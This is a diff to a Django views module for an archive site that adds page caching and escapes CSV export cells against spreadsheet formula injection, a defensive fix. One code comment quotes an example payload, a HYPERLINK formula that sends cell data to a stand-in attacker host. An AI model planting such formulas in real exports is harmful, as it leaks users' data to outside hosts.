@@ -7,12 +7,30 @@ from django.views.decorators.http import require_safe
 
 from .. import selectors
 from ..models import Article, EntityKind
+from .caching import public_page
 from .common import BadRequest, PageOutOfRange, run_search
 
 EXPORT_LIMIT = 10_000
 
+# A spreadsheet reads a cell starting with one of these as a formula (or as the start of one):
+# `=HYPERLINK("http://evil.example/?"&A1)` in an article title would send a researcher's data
+# away when they open the export. OWASP's advice ("CSV Injection"): prefix a single quote.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value) -> str:
+    """`value` as a CSV cell no spreadsheet evaluates: every export writes its cells through
+    this (text starting with = + - @ tab or CR gets a leading ')."""
+    text = "" if value is None else str(value)
+    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
+
+
+def csv_row(values) -> list[str]:
+    return [csv_cell(v) for v in values]
+
 
 @require_safe
+@public_page
 def home(request):
     return render(
         request,
@@ -26,6 +44,7 @@ def home(request):
 
 
 @require_safe
+@public_page
 def search_page(request):
     try:
         filterset, results = run_search(request.GET, settings.SEARCH_PAGE_SIZE)
@@ -54,6 +73,7 @@ def search_page(request):
 
 
 @require_safe
+@public_page
 def search_export(request):
     """The result set as CSV, for researchers: up to EXPORT_LIMIT rows in the requested
     order (relevance covers the search window; sort by date to export every match)."""
@@ -68,16 +88,18 @@ def search_export(request):
     response["X-Total-Matches"] = str(results.total)
     writer = csv.writer(response)
     writer.writerow(
-        [
-            "title",
-            "published",
-            "publication",
-            "source_url",
-            "archive_url",
-            "agencies",
-            "contractors",
-            "programs",
-        ]
+        csv_row(
+            [
+                "title",
+                "published",
+                "publication",
+                "source_url",
+                "archive_url",
+                "agencies",
+                "contractors",
+                "programs",
+            ]
+        )
     )
     for hit in results.hits:
         a = hit.article
@@ -86,26 +108,30 @@ def search_export(request):
             for k in EntityKind
         }
         writer.writerow(
-            [
-                a.title,
-                a.published or "",
-                a.publication,
-                a.source_url,
-                request.build_absolute_uri(a.get_absolute_url()),
-                by_kind["agency"],
-                by_kind["contractor"],
-                by_kind["program"],
-            ]
+            csv_row(
+                [
+                    a.title,
+                    a.published or "",
+                    a.publication,
+                    a.source_url,
+                    request.build_absolute_uri(a.get_absolute_url()),
+                    by_kind["agency"],
+                    by_kind["contractor"],
+                    by_kind["program"],
+                ]
+            )
         )
     return response
 
 
 @require_safe
+@public_page
 def search_help(request):
     return render(request, "archive/search_help.html")
 
 
 @require_safe
+@public_page
 def article(request, slug):
     page = selectors.article_page(slug)
     if page is None:
@@ -114,6 +140,7 @@ def article(request, slug):
 
 
 @require_safe
+@public_page
 def entity_index(request, kind_plural):
     kind = EntityKind.from_plural(kind_plural)
     if kind is None:
@@ -126,6 +153,7 @@ def entity_index(request, kind_plural):
 
 
 @require_safe
+@public_page
 def entity(request, kind_plural, slug):
     found, moved_to = selectors.find_entity(kind_plural, slug)
     if moved_to:
